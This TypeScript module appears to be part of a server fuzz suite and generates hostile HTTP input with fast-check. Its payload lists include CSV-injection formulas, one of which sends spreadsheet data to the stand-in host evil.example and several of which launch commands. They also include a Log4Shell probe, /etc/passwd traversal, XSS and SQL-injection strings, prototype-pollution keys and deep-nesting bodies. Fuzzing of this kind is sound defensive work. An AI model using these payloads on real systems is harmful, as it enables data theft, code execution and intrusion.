// Generators of hostile HTTP input for the fuzz suite: strings, JSON near a valid body, bodies no
// parser should choke on, headers and path values. Each body is JSON *text*, so keys such as
// `__proto__` reach the server as own keys, as an attacker would send them.
import fc from 'fast-check';

/** Put into generated strings; no 4xx answer may echo it. */
export const CANARY = 'cnry7f3a9e';
/** What CANARY becomes in path values: a problem may name the id it could not find, a page never shows it. */
export const PATH_CANARY = 'pthm4k2q';

/** Cells a spreadsheet would run as formulas (CSV injection), as systems may report them in export data. */
export const CSV_FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

const TRICKY = [
  ...CSV_FORMULAS,
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202E',
  'ü',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant to reach the parsers as it is
  '${jndi:ldap://x/a}',
  '%00',
  '%',
  'NaN',
  '-1',
  '1e309',
  'null',
  'true',
  '__proto__',
  'constructor',
  'prototype',
];

/** Strings a careless parser or template trips on: unicode, control characters, injections, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...TRICKY) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 20 }).map((s) => `${CANARY}${s}`) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 300_000 }).map((n) => CANARY + 'x'.repeat(n)) },
);

const hostileNumber = fc.oneof(
  fc.constantFrom('1e400', '-0', '123456789012345678901234567890', '0.1e-400', '-1', '4294967296'),
  fc
    .double()
    .filter(Number.isFinite)
    .map((n) => JSON.stringify(n)),
);

/** Any JSON text: values of every type, shallow, with hostile strings and numbers among them. */
export const anyJsonText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)) },
  { weight: 3, arbitrary: hostileString.map((s) => JSON.stringify(s)) },
  { weight: 1, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom('true', 'false', 'null', '[]', '{}') },
);

/** Keys that pollute prototypes where objects are merged carelessly, and keys no schema knows. */
const extraKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'), fc.string({ maxLength: 12 }));
const POLLUTION = '{"polluted":"yes","prototype":{"polluted":"yes"}}';

const objectText = (entries: readonly (readonly [string, string])[]) => `{${entries.map(([key, text]) => `${JSON.stringify(key)}:${text}`).join(',')}}`;

/**
 * JSON text near `sample`: most fields kept, some replaced by anything, mutated further down,
 * or left out, and now and then a key the schema does not know (prototype pollution among them).
 */
export function nearJson(sample: unknown, depth = 0): fc.Arbitrary<string> {
  const deeper = depth < 3;
  if (Array.isArray(sample)) {
    return fc
      .tuple(fc.tuple(...sample.map((item) => fieldVariant(item, depth))), fc.array(anyJsonText, { maxLength: 2 }))
      .map(([items, extra]) => `[${[...items.filter((t): t is string => t !== undefined), ...extra].join(',')}]`);
  }
  if (sample !== null && typeof sample === 'object') {
    const entries = Object.entries(sample);
    return fc
      .tuple(
        fc.tuple(...entries.map(([, value]) => fieldVariant(value, depth))),
        fc.array(fc.tuple(extraKey, fc.oneof(anyJsonText, fc.constant(POLLUTION))), { maxLength: deeper ? 2 : 0 }),
      )
      .map(([values, extra]) => objectText([...entries.flatMap(([key], i) => (values[i] === undefined ? [] : [[key, values[i]!] as const])), ...extra]));
  }
  return fc.oneof(fc.constant(JSON.stringify(sample)), anyJsonText);
}

function fieldVariant(value: unknown, depth: number): fc.Arbitrary<string | undefined> {
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant(JSON.stringify(value)) },
    { weight: 2, arbitrary: nearJson(value, depth + 1) },
    { weight: 1, arbitrary: anyJsonText },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

/** Arrays or objects nested far deeper than any schema: a recursive parser or walker overflows its stack. */
export const deepNesting: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 100, max: 100_000 }), fc.boolean())
  .map(([depth, arrays]) => (arrays ? '['.repeat(depth) + ']'.repeat(depth) : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`));

/** A body for a route that takes one: mostly near-valid, the rest garbage of every kind. */
export function hostileBody(sample: unknown): fc.Arbitrary<string | Uint8Array> {
  return fc.oneof(
    { weight: 10, arbitrary: nearJson(sample) },
    { weight: 1, arbitrary: fc.constant(JSON.stringify(sample)) },
    { weight: 1, arbitrary: anyJsonText },
    { weight: 1, arbitrary: deepNesting },
    { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }) },
  );
}

/** A form body near `fields`, urlencoded as a browser sends it, or not quite. */
export function hostileForm(fields: Record<string, string>): fc.Arbitrary<string> {
  const names = Object.keys(fields);
  return fc.oneof(
    {
      weight: 6,
      arbitrary: fc
        .tuple(
          fc.tuple(...names.map((name) => fc.option(fc.oneof(fc.constant(fields[name]!), hostileString), { nil: undefined, freq: 6 }))),
          fc.array(fc.tuple(extraKey, hostileString), { maxLength: 2 }),
        )
        .map(([values, extra]) =>
          new URLSearchParams([...names.flatMap((name, i) => (values[i] === undefined ? [] : [[name, values[i]!] as [string, string]])), ...extra]).toString(),
        ),
    },
    { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
    { weight: 1, arbitrary: fc.constantFrom('%', '%E0%A4%A', 'a=%ZZ', '&&&=&=', 'a'.repeat(20_000)) },
  );
}

/** Values printable in an HTTP header (fetch refuses the rest before sending). */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^[\x20-\x7e]{0,300}$/),
  fc.constantFrom('', ' ', 'de', '*', 'en-US,en;q=0.9', 'xx-ÿÿ'.replace(/[^\x20-\x7e]/g, '?'), '1', '0', 'true'),
);

export const contentTypes = (usual: string): fc.Arbitrary<string | undefined> =>
  fc.oneof(
    { weight: 8, arbitrary: fc.constant(usual) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        'application/json',
        'application/json; charset=utf-8',
        'application/x-www-form-urlencoded',
        'text/plain',
        'application/xml',
        'multipart/form-data; boundary=x',
        'application/octet-stream',
        'application/json; charset=latin1',
      ),
    },
    { weight: 1, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.stringMatching(/^[\x21-\x7e]{1,40}$/) },
  );

/** A path parameter as it appears in the URL: mostly encoded, sometimes raw and malformed. */
export function pathValue(known: readonly string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...known) },
    { weight: 4, arbitrary: hostileString.filter((s) => s.length > 0 && s.length <= 2_000).map((s) => encodeURIComponent(s.replaceAll(CANARY, PATH_CANARY))) },
    { weight: 1, arbitrary: fc.constantFrom('%', '%E0%A4%A', '%2F..%2F', '..', '.', '%00', '%ZZ') },
  );
}
